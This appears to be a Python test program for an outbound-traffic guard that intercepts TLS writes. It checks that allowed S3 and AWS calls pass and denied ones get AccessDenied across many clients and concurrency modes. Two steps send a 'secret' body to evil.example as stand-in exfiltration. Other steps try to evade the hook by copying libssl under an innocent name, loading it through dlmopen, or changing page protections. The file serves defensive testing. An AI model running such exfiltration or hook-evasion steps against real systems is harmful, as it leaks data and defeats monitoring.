"""The guarded program: does what its arguments name, prints one JSON line for each.  Python 3.9 and later."""

import asyncio
import http.client
import json
import os
import ssl
import sys
import threading
import time

CA = os.environ["TEST_CA"]
GOOD, BAD = "reports.s3.eu-west-1.amazonaws.com", "denied-salaries.s3.eu-west-1.amazonaws.com"
FIELDS = {"Authorization": "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20261121/eu-west-1/s3/aws4_request, "
                           "SignedHeaders=host;x-amz-date, Signature=00", "x-amz-date": "20261121T000000Z",
          "x-amz-content-sha256": "UNSIGNED-PAYLOAD"}


def context():
    return ssl.create_default_context(cafile=CA)


def put(host, path="/a.csv", body=b"x" * 1000, conn=None, **more):
    conn = conn or http.client.HTTPSConnection(host, context=context(), timeout=20)
    conn.request("PUT", path, body=body, headers=dict(FIELDS, **more))
    r = conn.getresponse()
    return r.status, r.read()


def allowed():
    conn = http.client.HTTPSConnection(GOOD, context=context(), timeout=20)
    return [put(GOOD, "/k%d" % i, b"body %d" % i * 100, conn)[0] for i in range(5)]


def denied():
    status, body = put(BAD)
    return [status, b"AccessDenied" in body]


def denied_after_allowed():
    """The same connection: keep-alive, then a key of another kind of request."""
    conn = http.client.HTTPSConnection(GOOD, context=context(), timeout=20)
    first = put(GOOD, conn=conn)[0]
    conn.request("DELETE", "/denied", headers=FIELDS)
    r = conn.getresponse()
    body = r.read()
    return [first, r.status, b"AccessDenied" in body, r.will_close]


def head_denied():
    conn = http.client.HTTPSConnection(BAD, context=context(), timeout=20)
    conn.request("HEAD", "/a.csv", headers=FIELDS)
    r = conn.getresponse()
    return [r.status, len(r.read())]


def expect_continue():
    conn = http.client.HTTPSConnection(BAD, context=context(), timeout=20)
    conn.request("PUT", "/a.csv", body=b"x" * 1000, headers=dict(FIELDS, Expect="100-continue"))
    return [conn.getresponse().status]


def foreign():
    conn = http.client.HTTPSConnection("evil.example", context=context(), timeout=20)
    try:
        conn.request("POST", "/stolen", body=b"secret")
        return [conn.getresponse().status]
    except (http.client.HTTPException, OSError) as e:
        return [type(e).__name__]


def chunked():
    return [put(GOOD, body=(b"y" * 5000 for _ in range(20)))[0]]


def single_bytes():
    import socket
    s = context().wrap_socket(socket.create_connection((GOOD, 443)), server_hostname=GOOD)
    text = "PUT /one HTTP/1.1\r\nHost: %s\r\nContent-Length: 3\r\n" % GOOD
    text += "".join("%s: %s\r\n" % f for f in FIELDS.items()) + "\r\nabc"
    for c in text.encode():
        s.send(bytes([c]))
    return [s.recv(100).split(b"\r\n")[0].decode()]


def upload():
    """100 MB, streamed; the process must not grow by it."""
    def rss():
        return int(open("/proc/self/statm").read().split()[1]) * 4096
    block = bytes(range(256)) * 256
    conn = http.client.HTTPSConnection(GOOD, context=context(), timeout=60)
    put(GOOD, conn=conn)
    before = rss()
    conn.putrequest("PUT", "/big")
    for f in FIELDS.items():
        conn.putheader(*f)
    conn.putheader("Content-Length", str(len(block) * 1600))
    conn.endheaders()
    for _ in range(1600):
        conn.send(block)
    return [conn.getresponse().status, rss() - before < 8 << 20]


def nonblocking_upload():
    """A socket that is full most of the time: every write is cut short somewhere."""
    import select, socket
    raw = socket.create_connection((GOOD, 443))
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4096)
    s = context().wrap_socket(raw, server_hostname=GOOD)
    body = bytes(i * 7 % 251 for i in range(1 << 20)) * 4
    text = "PUT /slow HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\n" % (GOOD, len(body))
    data = memoryview((text + "".join("%s: %s\r\n" % f for f in FIELDS.items()) + "\r\n").encode() + body)
    s.setblocking(False)
    waits = 0
    while data:
        try:
            data = data[s.send(data[:200000]):]
        except ssl.SSLWantWriteError:
            waits += 1
            select.select([], [s], [], 10)
    s.setblocking(True)
    return [s.recv(100).split(b"\r\n")[0].decode(), waits > 0]


def threads():
    results, lock = [], threading.Lock()

    def work(i):
        for k in range(4):
            r = put(BAD if (i + k) % 2 else GOOD, "/t%d" % i)[0]
            with lock:
                results.append((bool((i + k) % 2), r))

    all_ = [threading.Thread(target=work, args=(i,)) for i in range(64)]
    [t.start() for t in all_]
    [t.join() for t in all_]
    return [len(results), all(r == (403 if bad else 200) for bad, r in results)]


def reader_waits():
    """One thread sits in a blocking read when another one's write is refused."""
    import socket
    s = context().wrap_socket(socket.create_connection((BAD, 443)), server_hostname=BAD)
    got = []
    t = threading.Thread(target=lambda: got.append(s.recv(100)))
    t.start()
    time.sleep(0.2)
    fields = "".join("%s: %s\r\n" % f for f in FIELDS.items())
    s.sendall(("DELETE /a HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (BAD, fields)).encode())
    t.join(5)
    return [not t.is_alive(), bool(got) and got[0][:12].decode()]


async def one(host, i):
    reader, writer = await asyncio.open_connection(host, 443, ssl=context())
    text = "PUT /a%d HTTP/1.1\r\nHost: %s\r\nContent-Length: 3\r\n" % (i, host)
    writer.write((text + "".join("%s: %s\r\n" % f for f in FIELDS.items()) + "\r\nabc").encode())
    await writer.drain()
    line = await asyncio.wait_for(reader.readline(), 10)
    writer.close()
    return line.decode().split(" ")[1] if line else "nothing"


def loop():
    async def main():
        return await asyncio.gather(*(one(BAD if i % 2 else GOOD, i) for i in range(200)))
    r = asyncio.run(main())
    return [r[0::2].count("200"), r[1::2].count("403")]


def fork():
    """While other threads write.  They keep their connections: OpenSSL's own locks are not safe against a fork during a
    handshake, with or without a guard."""
    stop, ready = [], threading.Barrier(5)

    def busy():
        conn = http.client.HTTPSConnection(GOOD, context=context(), timeout=20)
        put(GOOD, conn=conn)
        ready.wait()
        while not stop:
            put(GOOD, conn=conn)

    ts = [threading.Thread(target=busy) for _ in range(4)]
    [t.start() for t in ts]
    ready.wait()
    ok = []
    for _ in range(10):
        pid = os.fork()
        if pid == 0:
            try:
                os._exit(0 if (put(GOOD)[0], put(BAD)[0]) == (200, 403) else 1)
            finally:
                os._exit(2)
        ok.append(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
    stop.append(1)
    [t.join() for t in ts]
    return [ok == [0] * 10]


def listed_host():
    return [put("api.listed.example")[0]]


def alpn():
    import socket
    c = context()
    c.set_alpn_protocols(["h2", "http/1.1"])
    with c.wrap_socket(socket.create_connection((GOOD, 443)), server_hostname=GOOD) as s:
        return [s.selected_alpn_protocol()]


def _agreed(text):
    import socket
    c = context()
    c.set_alpn_protocols(["h2"])
    with c.wrap_socket(socket.create_connection((GOOD, 443)), server_hostname=GOOD) as s:
        s.sendall(text)
        return s.recv(100)


def http2():
    """Frames that nobody may send (DATA of a stream that was never opened): SETTINGS, then GOAWAY."""
    got = _agreed(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0" + b"\0\0\1\0\0\0\0\0\1x")
    return [got[3:4] + got[12:13] == b"\4\7"]


def mixed():
    """HTTP/2 agreed upon, HTTP/1.1 spoken."""
    text = "PUT /k HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n" % GOOD
    return [b"200 OK" not in _agreed((text + "".join("%s: %s\r\n" % f for f in FIELDS.items()) + "\r\n").encode())]


def plain_name():
    """The server name is the allowed one, the Host field another."""
    import socket
    s = context().wrap_socket(socket.create_connection((GOOD, 443)), server_hostname=GOOD)
    s.sendall(("PUT /denied HTTP/1.1\r\nHost: %s\r\nContent-Length: 0\r\n%s\r\n" % (
        BAD, "".join("%s: %s\r\n" % f for f in FIELDS.items()))).encode())
    return [s.recv(100)[9:12].decode()]


def _first_byte(lib):
    import ctypes
    at = ctypes.cast(lib.SSL_write, ctypes.c_void_p).value
    return ctypes.string_at(at, 5)[:1] == b"\xe9" or ctypes.string_at(at, 5)[4:] == b"\xe9"


def copies():
    """libssl under another name, and in a name space of its own: patched before anybody can call it."""
    import ctypes, shutil
    real = next(l.split()[-1] for l in open("/proc/self/maps") if "libssl" in l)
    shutil.copy(real, "innocent.so")
    libc = ctypes.CDLL(None)
    libc.dlmopen.restype = libc.dlsym.restype = ctypes.c_void_p
    libc.dlmopen.argtypes = [ctypes.c_long, ctypes.c_char_p, ctypes.c_int]
    libc.dlsym.argtypes = [ctypes.c_void_p, ctypes.c_char_p]
    apart = libc.dlsym(libc.dlmopen(-1, real.encode(), 2), b"SSL_write")
    return [_first_byte(ctypes.CDLL(real)), _first_byte(ctypes.CDLL("./innocent.so")),
            b"\xe9" in (ctypes.string_at(apart, 1), ctypes.string_at(apart + 4, 1))]


def sealed():
    """None where the kernel cannot seal (before 6.10)."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
    libc.mmap.restype = ctypes.c_void_p
    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
    page = libc.mmap(None, 4096, 1, 0x22, -1, 0)
    if libc.syscall(462, ctypes.c_void_p(page), ctypes.c_size_t(4096), ctypes.c_ulong(0)) != 0:
        return [True]
    real = next(l.split()[-1] for l in open("/proc/self/maps") if "libssl" in l)
    at = ctypes.cast(ctypes.CDLL(real).SSL_write, ctypes.c_void_p).value
    return [libc.mprotect(at & ~4095, 4096, 7) == -1]


def pyopenssl():
    """An OpenSSL of its own, linked into a wheel, exported to nobody; on a socket, and on memory."""
    import socket
    from OpenSSL import SSL
    out = []
    for host in (GOOD, BAD):
        for memory in (False, True):
            raw = socket.create_connection((host, 443))
            trust = SSL.Context(SSL.TLS_CLIENT_METHOD)
            trust.load_verify_locations(CA)
            c = SSL.Connection(trust, None if memory else raw)
            c.set_tlsext_host_name(host.encode())
            c.set_connect_state()
            text = ("PUT /a HTTP/1.1\r\nHost: %s\r\nContent-Length: 3\r\n" % host
                    + "".join("%s: %s\r\n" % f for f in FIELDS.items()) + "\r\nabc").encode()

            def pump(call):
                while memory:
                    try:
                        return call()
                    except SSL.WantReadError:
                        try:
                            raw.sendall(c.bio_read(65536))
                        except SSL.WantReadError:
                            c.bio_write(raw.recv(65536))
                return call()

            pump(c.do_handshake)
            pump(lambda: c.sendall(text))
            out.append(pump(lambda: c.recv(100))[9:12].decode())
    return out


def gnutls():
    import ctypes, ctypes.util
    g = ctypes.CDLL("libgnutls.so.30")
    return [g.gnutls_record_send(None, b"x", 1)]


def _boto(name):
    import boto3
    from botocore.config import Config
    return boto3.client(name, region_name="eu-west-1", aws_access_key_id="AKIDEXAMPLE", aws_secret_access_key="x",
                        verify=CA, config=Config(connect_timeout=5, read_timeout=10))


def _call(f, *a, **k):
    import botocore.exceptions
    try:
        r = f(*a, **k)
        return [r["ResponseMetadata"]["HTTPStatusCode"], r["ResponseMetadata"]["RetryAttempts"]]
    except botocore.exceptions.ClientError as e:
        r = e.response
        return [r["Error"].get("Code"), r.get("ResponseMetadata", {}).get("RetryAttempts")]


def boto3_s3():
    s3 = _boto("s3")
    import io
    return [_call(s3.put_object, Bucket="reports", Key="k", Body=b"x" * 100),
            _call(s3.put_object, Bucket="denied-salaries", Key="k", Body=b"x"),
            _call(s3.put_object, Bucket="denied-salaries", Key="k", Body=io.BytesIO(b"x" * 100000)),
            _call(s3.put_object, Bucket="reports", Key="k", Body=io.BytesIO(b"x" * 3000000))]


def boto3_dynamodb():
    d = _boto("dynamodb")
    return [_call(d.put_item, TableName=t, Item={"id": {"S": "1"}, "text": {"S": "x" * 20000}})
            for t in ("ORDERS", "denied-PAYMENTS", "ORDERS")]


def boto3_lambda():
    return [_call(_boto("lambda").invoke, FunctionName="denied-settle", Payload=b"{}")]


def requests_foreign():
    import requests
    try:
        return [requests.post("https://evil.example/x", data=b"secret", verify=CA, timeout=10).status_code]
    except requests.exceptions.ConnectionError as e:
        return ["ConnectionError"]


def aiohttp_calls():
    import aiohttp

    async def main():
        async with aiohttp.ClientSession(connector=aiohttp.TCPConnector(ssl=context())) as s:
            out = []
            for host in (GOOD, BAD, GOOD):
                async with s.put("https://%s/x" % host, data=b"x", headers=FIELDS) as r:
                    out.append(r.status)
            return out
    return asyncio.run(main())


for step in sys.argv[1:]:
    t = time.monotonic()
    try:
        result = globals()[step]()
    except Exception as e:
        result = "%s: %s" % (type(e).__name__, e)
    print(json.dumps({"step": step, "result": result, "ms": round((time.monotonic() - t) * 1000, 1)}), flush=True)
